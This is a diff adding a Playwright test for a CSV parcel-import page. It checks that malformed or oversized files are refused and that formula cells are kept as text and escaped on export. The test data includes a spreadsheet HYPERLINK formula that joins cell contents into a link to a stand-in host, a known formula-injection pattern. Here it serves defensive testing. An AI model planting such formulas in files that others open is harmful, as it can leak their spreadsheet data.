@@ -1,0 +1,91 @@
+import { readFile } from 'node:fs/promises';
+import type { Page } from '@playwright/test';
+import type { ParcelJson } from '#contract/build-parcel.ts';
+import { expect, test } from '../fixtures.ts';
+import { emptyDesk } from '../service-profiles.ts';
+
+test.use({ serviceOptions: emptyDesk });
+
+const rows = (count: number) => Array.from({ length: count }, (_, row) => `${row},Ann\n`).join('');
+
+/** Files that somebody might drop, and what the page says of each; what else is refused is in read-sheet.test.ts. */
+const refused: readonly [what: string, file: string | Buffer, says: string][] = [
+  ['a cell of 10 MB', `order,name\n1,${'x'.repeat(10_000_000)}\n`, 'The cell in line 2, column 2 has more than'],
+  [
+    'a quotation mark that 10 MB later has not ended',
+    `order,name\n1,"${'x\n'.repeat(5_000_000)}`,
+    'It begins with a quotation mark (") that does not end.',
+  ],
+  ['a row with more cells', 'order,name\n1,Ann\n2,Bob,Graz\n', 'Line 3 has 3 cells, the header has 2'],
+  ['a NUL', `order,name\n${rows(3)}x\0,1\n`, 'A character in line 5 is damaged (NUL)'],
+  [
+    'a broken byte in UTF-8',
+    Buffer.concat([Buffer.from('order,name\n1,Żółć\n2,'), Buffer.of(0xc5), Buffer.from('\n')]),
+    'A character in line 3 cannot be read',
+  ],
+  ['a zip', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200)]), 'This is an archive'],
+];
+
+async function choose(page: Page, file: string | Buffer): Promise<void> {
+  await page
+    .locator('input[type=file]')
+    .setInputFiles({ name: 'orders.csv', mimeType: 'text/csv', buffer: Buffer.from(file) });
+}
+
+async function check(page: Page): Promise<void> {
+  await page.getByRole('button', { name: 'Check rows' }).click();
+  await expect(page.getByRole('grid', { name: 'Rows of the file' })).toBeVisible();
+}
+
+test('hostile files: each says what is wrong, nothing is sent, and the page goes on; formulas are text', async ({
+  desk,
+  api,
+  service,
+}) => {
+  const sent: string[] = [];
+  desk.on('request', (request) => {
+    if (request.method() !== 'GET') sent.push(`${request.method()} ${new URL(request.url()).pathname}`);
+  });
+  await desk.keyboard.press('Alt+9');
+  for (const [what, file, says] of refused)
+    await test.step(what, async () => {
+      await choose(desk, file);
+      const alert = desk.getByRole('alert').filter({ hasText: says });
+      await expect(alert).toBeVisible();
+      await expect(alert).toBeFocused();
+      await expect(desk.getByRole('button', { name: 'Choose another file' })).toBeEnabled();
+    });
+
+  await test.step('rows with fewer cells are filled up, and it says so', async () => {
+    await choose(desk, 'Order number,Name,City\nSHORT-1,Ann,Graz\nSHORT-2\n');
+    await expect(desk.getByText('Line 3 has fewer cells than the header.')).toBeVisible();
+    await check(desk);
+    await expect(desk.getByRole('button', { name: 'Create 2 parcels' })).toBeEnabled();
+    await desk.getByRole('button', { name: 'Discard' }).click();
+    await desk.getByRole('alertdialog').getByRole('button', { name: 'Discard' }).click();
+  });
+  expect(sent).toEqual([]);
+
+  await test.step('formulas come in as text, and go out guarded', async () => {
+    const formula = '=HYPERLINK("https://example.com/"&A1,"open")';
+    const cells = ['FORMULA-1', `"${formula.replaceAll('"', '""')}"`, '+49 30 1', "'@SUM(1+1)", '-2'];
+    await choose(desk, `Order number,Name,Phone,Note,City\n${cells.join(',')}\n`);
+    await check(desk);
+    await expect(desk.getByRole('grid').getByText(formula)).toBeVisible();
+    await desk.getByRole('button', { name: 'Create 1 parcel' }).click();
+    await expect(desk.getByText('1 parcel imported.')).toBeVisible();
+    const { data } = (await api.get('/parcels')).body as { data: ParcelJson[] };
+    expect(data).toMatchObject([{ note: '@SUM(1+1)', receiver: { name: formula, phone: '+49 30 1', city: '-2' } }]);
+    expect(sent).toEqual(['POST /v1/parcels']);
+
+    // Loaded anew: the list that was read before looks for new parcels later.
+    await desk.goto(`${service.origin}/parcels`);
+    await desk.getByRole('button', { name: 'Export', exact: true }).click();
+    const dialog = desk.getByRole('dialog', { name: 'Export parcels' });
+    await dialog.getByRole('radio', { name: 'All fields' }).check();
+    const download = desk.waitForEvent('download');
+    await dialog.getByRole('button', { name: 'Export' }).click();
+    const text = await readFile(await (await download).path(), 'utf8');
+    for (const guarded of [`"'=HYPERLINK(""https`, "'+49 30 1", "'@SUM(1+1)", "'-2"]) expect(text).toContain(guarded);
+  });
+});
